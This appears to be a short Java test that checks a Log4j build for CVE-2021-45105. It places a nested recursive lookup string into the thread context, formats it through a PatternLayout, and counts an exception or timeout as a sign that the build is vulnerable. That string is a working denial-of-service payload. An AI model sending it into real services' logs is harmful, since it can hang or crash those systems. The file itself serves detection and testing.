import org.apache.logging.log4j.*;
import org.apache.logging.log4j.core.config.*;
import org.apache.logging.log4j.core.impl.*;
import org.apache.logging.log4j.core.layout.*;
import org.apache.logging.log4j.message.*;

public class D_log4j_core_2021_45105 {
    public static String run() throws Throwable {
        Object r = H.timed(8000, 0, () -> {
            ThreadContext.put("x", "${${::-${::-$${::-j}}}}");
            Configuration c = new DefaultConfiguration();
            PatternLayout l = PatternLayout.newBuilder()
                    .withConfiguration(c)
                    .withPattern("${ctx:x} %m%n")
                    .build();
            return l.toSerializable(Log4jLogEvent.newBuilder()
                    .setLoggerName("a")
                    .setLevel(Level.ERROR)
                    .setMessage(new SimpleMessage("m"))
                    .build());
        });
        return H.v(r instanceof Throwable || "TIMEOUT".equals(r), H.cause(r));
    }
}
